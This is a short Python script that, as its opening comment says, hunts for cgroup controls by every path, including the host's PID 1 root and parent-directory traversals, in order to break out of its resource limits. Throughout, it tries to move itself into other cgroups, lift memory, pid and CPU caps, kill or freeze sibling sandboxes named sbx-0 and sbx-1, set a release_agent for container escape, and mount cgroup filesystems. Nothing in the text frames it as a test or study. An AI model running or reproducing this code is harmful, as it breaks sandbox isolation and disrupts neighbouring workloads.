# Looks for cgroups by every path, moves itself and changes caps.
import glob, os

found = []
found += (
    glob.glob("/sys/fs/cgroup/*")
    + glob.glob("/sys/fs/cgroup/../*")
    + glob.glob("/cgroup/*")
    + glob.glob("/proc/*/root/sys/fs/cgroup/*")
)
for line in open("/proc/self/cgroup").read().splitlines():
    number, controllers, path = line.split(":", 2)
    if "sbx" in path or ".." in path:
        found.append(line)
    for root in ("/sys/fs/cgroup", "/proc/1/root/sys/fs/cgroup"):
        for group in (path, path + "/..", path + "/../..", "/sbx-0", "/../sbx-0", "/../sbx-1"):
            folder = "%s/%s/%s" % (root, controllers, group)
            for name, value in (
                ("cgroup.procs", "0"),
                ("tasks", "0"),
                ("memory.max", "max"),
                ("memory.limit_in_bytes", "-1"),
                ("pids.max", "max"),
                ("cpu.max", "max"),
                ("cgroup.kill", "1"),
                ("cgroup.freeze", "1"),
                ("release_agent", "/tmp/a"),
            ):
                try:
                    with open(folder + "/" + name, "wb", buffering=0) as file:
                        file.write(value.encode())
                    found.append("wrote %s/%s" % (folder, name))
                except OSError:
                    pass
            for change in (os.rmdir, os.mkdir):
                try:
                    change(folder + "/attack")
                    found.append("changed " + folder)
                except OSError:
                    pass
libc = __import__("ctypes").CDLL(None)
for kind in (b"cgroup", b"cgroup2"):
    if libc.mount(kind, b"/tmp", kind, 0, None) == 0:
        found.append("mounted")
print(found)
